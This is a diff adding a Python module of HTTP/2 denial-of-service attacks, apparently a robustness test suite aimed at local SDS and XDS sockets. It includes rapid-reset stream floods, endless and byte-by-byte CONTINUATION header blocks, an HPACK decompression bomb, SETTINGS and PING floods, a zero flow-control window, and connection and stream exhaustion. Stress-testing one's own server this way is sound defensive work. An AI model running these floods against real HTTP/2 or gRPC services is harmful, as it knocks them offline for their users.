@@ -1,0 +1,158 @@
+"""Attacks on the SDS and XDS sockets: HTTP/2 as no client speaks it."""
+import time
+
+from . import h2
+from .h2 import ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, RST, SETTINGS, Conn, frame, request
+from .registry import attack
+from .world import SDS, XDS
+
+PATHS = {SDS: h2.SDS_PATH, XDS: h2.ADS_PATH}
+EACH = {"SDS": SDS, "XDS": XDS}
+
+
+def again(world, socket, size, play):
+    """Plays on one connection after the other until the time is up; a closed connection is an answer."""
+    end = time.monotonic() + size.seconds
+    while time.monotonic() < end:
+        try:
+            with Conn(world.dir / socket, timeout=1) as conn:
+                conn.io.settimeout(0.5)
+                play(conn, PATHS[socket], end)
+        except OSError:
+            time.sleep(0.01)
+
+
+def flood(name, why):
+    def note(play):
+        for label, socket in EACH.items():
+            @attack(f"{label} {name}", why)
+            def it(world, size, socket=socket):
+                again(world, socket, size, play)
+        return play
+    return note
+
+
+def ids():
+    stream = 1
+    while stream < 2**31:
+        yield stream
+        stream += 2
+
+
+@flood("rapid reset", "streams that are opened and reset at once")
+def rapid_reset(conn, path, end):
+    head = request(path)
+    stream = ids()
+    while time.monotonic() < end:
+        batch = []
+        for _ in range(100):
+            s = next(stream)
+            batch += [frame(HEADERS, END_HEADERS, s, head), frame(RST, 0, s, b"\0\0\0\x08")]
+        conn.send(*batch)
+
+
+@flood("endless header block", "CONTINUATION without end")
+def continuation(conn, path, end):
+    conn.send(frame(HEADERS, 0, 1, request(path)))
+    while time.monotonic() < end:
+        conn.send(frame(CONTINUATION, 0, 1, h2.field("x", b"y" * 16000)))
+
+
+@flood("header block byte by byte", "CONTINUATION frames of one byte")
+def bytewise(conn, path, end):
+    block = request(path) + h2.field("x", b"y" * 100_000)
+    conn.send(frame(HEADERS, 0, 1, block[:1]))
+    for at in range(1, len(block)):
+        conn.send(frame(CONTINUATION, 0, 1, block[at:at + 1]))
+        if time.monotonic() > end:
+            return
+
+
+@flood("HPACK bomb", "small frames that unpack to much")
+def bomb(conn, path, end):
+    stream = ids()
+    entry = b"\x40" + h2.number(1, 7) + b"x" + h2.number(3900, 7) + b"y" * 3900
+    conn.send(frame(HEADERS, END_HEADERS, next(stream), request(path) + entry))
+    while time.monotonic() < end:
+        # The newest entry of the table, 4,000 times: 16 MB out of 4 kB.
+        conn.send(frame(HEADERS, END_HEADERS | END_STREAM, next(stream), request(path) + b"\xbe" * 4000))
+
+
+@flood("SETTINGS", "settings to be acknowledged, and nobody reads")
+def settings(conn, path, end):
+    while time.monotonic() < end:
+        conn.send(*[frame(SETTINGS, 0, 0, b"\0\x03\0\0\0\x64")] * 200)
+
+
+@flood("PING", "pings to be answered, and nobody reads")
+def ping(conn, path, end):
+    while time.monotonic() < end:
+        conn.send(*[frame(PING, 0, 0, b"12345678")] * 200)
+
+
+@flood("empty DATA", "frames without content")
+def empty(conn, path, end):
+    conn.send(frame(HEADERS, END_HEADERS, 1, request(path)))
+    while time.monotonic() < end:
+        conn.send(*[frame(DATA, 0, 1)] * 500)
+
+
+@flood("garbage", "bytes that are no frames")
+def garbage(conn, path, end):
+    conn.send(h2.noise(20_000))
+    conn.read()
+
+
+@flood("closed window", "a client that lets nothing be sent to it")
+def window(conn, path, end):
+    conn.send(frame(SETTINGS, 0, 0, b"\0\x04\0\0\0\0"), frame(SETTINGS, ACK, 0))
+    stream = ids()
+    for _ in range(90):
+        s = next(stream)
+        conn.send(frame(HEADERS, END_HEADERS, s, request(path)), frame(DATA, 0, s, h2.secrets()))
+    while time.monotonic() < end:
+        conn.read()
+
+
+@flood("large names", "a resource name of 900 kB")
+def large(conn, path, end):
+    body = h2.secrets(b"n" * 900_000)
+    conn.send(frame(HEADERS, END_HEADERS, 1, request(path)))
+    for at in range(0, len(body), 16384):
+        conn.send(frame(DATA, 0, 1, body[at:at + 16384]))
+    for _ in range(50):
+        conn.read()
+
+
+for label, socket in EACH.items():
+    @attack(f"{label} silent connections", "connections that say nothing")
+    def silent(world, size, socket=socket):
+        held, end = [], time.monotonic() + size.seconds
+        while time.monotonic() < end:
+            try:
+                if len(held) < size.sockets:
+                    held.append(h2.socket.socket(h2.socket.AF_UNIX))
+                    held[-1].settimeout(0.2)
+                    held[-1].connect(str(world.dir / socket))
+                else:
+                    time.sleep(0.05)
+            except OSError:
+                time.sleep(0.02)
+        for io in held:
+            io.close()
+
+    @attack(f"{label} streams", "as many streams on one connection as it takes")
+    def streams(world, size, socket=socket):
+        left = size.streams
+        stream = ids()
+        with Conn(world.dir / socket, timeout=2) as conn:
+            head, ask = request(PATHS[socket]), h2.secrets()
+            end = time.monotonic() + size.seconds
+            try:
+                while left and time.monotonic() < end:
+                    s = next(stream)
+                    conn.send(frame(HEADERS, END_HEADERS, s, head), frame(DATA, 0, s, ask))
+                    left -= 1
+                time.sleep(max(0, end - time.monotonic()))
+            except OSError:
+                pass
